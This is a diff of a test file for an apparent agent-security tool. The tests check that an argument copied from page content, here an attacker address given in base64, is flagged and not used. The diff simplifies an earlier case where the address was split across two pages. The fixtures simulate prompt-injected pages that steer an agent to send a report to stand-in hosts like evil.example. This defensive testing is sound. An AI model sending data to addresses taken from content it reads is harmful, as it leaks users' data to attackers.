@@ -239,21 +239,14 @@ async def test_an_argument_that_another_agent_saw_before_it_handed_over_is_marke
 @tool
 async def other_page() -> str:
     """Read another page."""
-    return "Its other half is .attacker.example; bWFsbG9yeUBldmlsLmV4YW1wbGU6ODA4MA=="
+    return "The address is bWFsbG9yeUBldmlsLmV4YW1wbGU6ODA4MA=="
 
 
-@pytest.mark.parametrize(
-    ("to", "origin"),
-    [
-        ("mallory@evil.attacker.example", "read_page-1 and other_page-2"),
-        ("mallory@evil.example:8080", "other_page-2"),
-    ],
-)
-async def test_an_argument_from_parts_of_pages_or_from_a_code_is_marked(to: str, origin: str) -> None:
-    turns = call("read_page"), call("other_page"), call("send", to=to)
+async def test_an_argument_from_a_code_is_marked() -> None:
+    turns = call("read_page"), call("other_page"), call("send", to="mallory@evil.example:8080")
     agent, marks = marked(scripted(*turns).with_tools(read_page, other_page, send))
     await agent.run("Send the report.")
-    assert (marks, sent) == ([f"The argument 'to' was copied from {origin}."], [])
+    assert (marks, sent) == (["The argument 'to' was copied from other_page-2."], [])
 
 
 # --- what is approved is what runs ----------------------------------------------------------------------
